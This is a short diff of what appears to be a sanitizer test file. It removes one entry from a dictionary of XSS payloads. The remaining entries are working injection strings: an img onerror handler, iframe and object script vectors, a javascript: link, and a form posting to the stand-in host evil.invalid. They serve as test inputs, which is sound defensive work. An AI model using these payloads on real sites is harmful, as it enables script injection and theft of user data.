@@ -66,7 +66,6 @@ BROKEN_IN = {
     "handler": f"<img src=x onerror={MARK}>",
     "frame": "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
     "link": f"<a id=go href='javascript:{MARK}'>x</a>",
-    "base": "<base href='https://evil.invalid/'>",
     "form": "<form action='https://evil.invalid/'><button id=send>x</button></form>",
     "object": "<object data='data:text/html,<script>parent.__xss=1</script>'></object>",
 }
